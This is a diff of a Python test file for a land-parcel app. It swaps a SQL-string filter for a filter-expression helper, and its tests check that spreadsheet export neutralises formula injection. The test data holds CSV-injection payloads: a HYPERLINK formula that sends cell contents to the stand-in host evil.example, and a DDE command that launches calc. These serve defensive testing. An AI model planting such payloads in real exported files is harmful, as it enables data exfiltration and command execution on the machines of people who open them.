@@ -13,6 +13,7 @@ import pandas as pd
 import pytest
 
 from landapp.spreadsheet import csv_safe, is_risky
+from landapp.store.filters import F
 
 ATTACKS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-1+1", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
@@ -30,7 +31,7 @@ def test_csv_safe_quotes_formulas_and_keeps_numbers():
 def _poisoned_list(demo_project):
     from landapp.opportunities import opportunity_list
 
-    rows = demo_project.rows("parcels", "status = ? AND retired = 0", ("待供",))
+    rows = demo_project.rows("parcels", (F("status") == "待供") & (F("retired") == 0))
     demo_project.update("parcels", rows[0]["fid"], {"name": ATTACKS[0], "location": ATTACKS[1],
                                                      "contact": ATTACKS[4], "phone": "+8613800000000"})
     df = opportunity_list(demo_project, "land")
